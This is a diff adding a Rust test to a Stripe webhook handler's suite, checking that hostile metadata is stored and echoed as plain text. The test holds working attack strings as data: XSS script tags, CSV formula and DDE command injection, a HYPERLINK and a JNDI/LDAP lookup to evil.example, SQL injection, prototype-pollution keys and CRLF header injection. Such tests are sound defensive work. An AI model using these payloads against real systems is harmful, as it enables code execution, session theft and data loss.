@@ -990,6 +990,48 @@ async fn s67_a_hundred_events_of_one_user_at_once_are_all_applied() {
 
 // --------------------------------------------------------------------------------------------------------------- E. Hostile content
 
+/// What people write into metadata is text to us: it names nothing, is no code, and is shown as it came.
+#[tokio::test]
+async fn s75_hostile_metadata_is_stored_and_answered_as_the_text_it_is() {
+    let hostile = [
+        ("script", "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>"),
+        ("csv", "=HYPERLINK(\"http://evil.example\",\"pay\")"),
+        ("csv_more", "@SUM(1+1)*cmd|' /C calc'!A0"),
+        ("__proto__", "{\"isAdmin\":true}"),
+        ("constructor", "prototype"),
+        ("control", "\u{0}\u{1b}[31mred\u{7}\u{202e}txt.exe\r\nSet-Cookie: a=b"),
+        ("sql", "'; DROP TABLE users; --"),
+        ("template", "{{7*7}} ${jndi:ldap://evil.example/a} %s %n"),
+    ];
+    let world = signed_up().await;
+    let mut event = pack("hostile", "user_1", 1);
+    for (name, value) in hostile {
+        event["data"]["object"]["metadata"][name] = json!(value);
+    }
+    event["data"]["object"]["metadata"]["long"] = json!("=1+1<b>".repeat(75_000));
+    event["data"]["object"]["customer_details"]["name"] = json!(hostile[0].1);
+    world.process(&event).await;
+    assert_eq!(outcome(&world, "evt_hostile").await, ("processed".into(), "updated".into()));
+    let (status, account) = world.app("GET", "/users/user_1", Value::Null, None).await;
+    assert_eq!((status, &account["credits"], &account["tier"]), (200, &json!(1500), &json!("free")));
+    let (status, told) = world.ask("GET", "/admin/stripe/webhook-logs/evt_hostile", Value::Null).await;
+    assert_eq!(status, 200, "{told}");
+    assert_eq!(told["payload"], event, "the payload is given back as it came");
+
+    // Where such a text is itself the answer: the name of a plan that is not sold.
+    for (number, (_, text)) in hostile.iter().enumerate() {
+        let id = format!("evt_name{number}");
+        let event = changed(pack("name", "user_1", 1), &id, &[("/data/object/metadata/pack", json!(text))]);
+        world.process(&event).await;
+        let record = world.event(&id).await.unwrap();
+        assert_eq!((record["outcome"].as_str(), record["reason"].as_str()), ("parked", "unknown_name"), "{text}");
+        let (_, told) = world.ask("GET", &format!("/admin/stripe/webhook-logs/{id}"), Value::Null).await;
+        assert_eq!(told["event"]["message"], json!(record["message"]), "{told}");
+        assert!(record["message"].contains(text), "{record:?}");
+    }
+    check_quiet(&world, &[event], "S75").await;
+}
+
 #[tokio::test]
 async fn s76_hostile_ids_are_refused_before_they_become_keys() {
     let world = World::new().await;
